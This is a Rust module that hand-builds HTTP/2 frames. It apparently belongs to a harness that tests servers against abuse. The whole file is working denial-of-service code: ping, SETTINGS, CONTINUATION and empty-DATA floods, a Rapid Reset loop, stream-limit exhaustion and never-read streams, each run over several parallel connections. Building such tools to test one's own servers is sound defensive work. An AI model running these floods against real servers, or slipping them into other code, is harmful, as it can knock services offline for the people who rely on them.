//! Attacks by frames of HTTP/2, written by hand.

use crate::apps::HTTP2;
use crate::attackers::{Material, Stop, crowd, dial, hear_out};
use std::io;
use std::sync::Arc;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// The largest window (RFC 9113, section 6.9.1).
const ALL: u32 = 0x7fff_ffff;
/// Connections of each attack.
const CROWD: usize = 8;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A header block for GET: indexed fields, and literals that are not remembered (RFC 7541, section 6).
fn get(path: &str) -> Vec<u8> {
    let literal = |name: u8, value: &str| {
        let length = u8::try_from(value.len()).unwrap();
        [&[name, length][..], value.as_bytes()].concat()
    };
    [vec![0x82, 0x86], literal(4, path), literal(1, "server")].concat()
}

/// A connection on which the client has said what it must, with windows as large as can be.
async fn open() -> io::Result<TcpStream> {
    let mut stream = dial(HTTP2).await?;
    let initial_window = [&4_u16.to_be_bytes()[..], &ALL.to_be_bytes()].concat();
    let mut begin = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    begin.extend(frame(SETTINGS, 0, 0, &initial_window));
    begin.extend(frame(WINDOW_UPDATE, 0, 0, &(ALL - 65_535).to_be_bytes()));
    stream.write_all(&begin).await?;
    Ok(stream)
}

/// Says `first`, then `again` until the other side has had enough. What that says meanwhile is dropped.
async fn flood(first: &[u8], again: impl Fn(u32) -> Vec<u8>) -> io::Result<()> {
    let (read, mut write) = open().await?.into_split();
    let saying = async {
        write.write_all(first).await?;
        for round in 0.. {
            write.write_all(&again(round)).await?;
        }
        io::Result::Ok(())
    };
    tokio::select! {
        done = saying => done,
        done = hear_out(read) => done,
    }
}

pub fn ping_flood(_: Arc<Material>, stop: Stop) -> u64 {
    let pings = frame(PING, 0, 0, &[7; 8]).repeat(500);
    crowd(CROWD, &stop, || flood(&[], |_| pings.clone()))
}

pub fn settings_flood(_: Arc<Material>, stop: Stop) -> u64 {
    let settings = frame(SETTINGS, 0, 0, &[]).repeat(500);
    crowd(CROWD, &stop, || flood(&[], |_| settings.clone()))
}

pub fn continuation_flood(_: Arc<Material>, stop: Stop) -> u64 {
    let begun = frame(HEADERS, END_STREAM, 1, &get("/"));
    // An indexed field each, so that the block is small and never ends.
    let more = frame(CONTINUATION, 0, 1, &[0x82]).repeat(500);
    crowd(CROWD, &stop, || flood(&begun, |_| more.clone()))
}

pub fn rapid_reset(_: Arc<Material>, stop: Stop) -> u64 {
    const STREAMS: u32 = 200;
    let streams = |round: u32| {
        let ids = (0..STREAMS).map(|n| (round * STREAMS + n) * 2 + 1);
        ids.flat_map(|id| {
            let asked = frame(HEADERS, END_STREAM | END_HEADERS, id, &get("/"));
            [asked, frame(RST_STREAM, 0, id, &8_u32.to_be_bytes())].concat()
        })
        .collect()
    };
    crowd(CROWD, &stop, || flood(&[], streams))
}

pub fn empty_data_flood(_: Arc<Material>, stop: Stop) -> u64 {
    let begun = frame(HEADERS, END_HEADERS, 1, &get("/"));
    let more = frame(DATA, 0, 1, &[]).repeat(500);
    crowd(CROWD, &stop, || flood(&begun, |_| more.clone()))
}

/// Requests that do not end, more than a connection may have.
pub fn too_many_streams(_: Arc<Material>, stop: Stop) -> u64 {
    let streams: Vec<u8> = (0..400).flat_map(|n| frame(HEADERS, END_HEADERS, n * 2 + 1, &get("/"))).collect();
    crowd(CROWD, &stop, || async {
        let mut stream = open().await?;
        stream.write_all(&streams).await?;
        hear_out(stream).await
    })
}

pub fn never_read(_: Arc<Material>, stop: Stop) -> u64 {
    let streams: Vec<u8> =
        (0..50).flat_map(|n| frame(HEADERS, END_STREAM | END_HEADERS, n * 2 + 1, &get("/big"))).collect();
    crowd(20, &stop, || async {
        let mut stream = open().await?;
        stream.write_all(&streams).await?;
        std::future::pending().await
    })
}
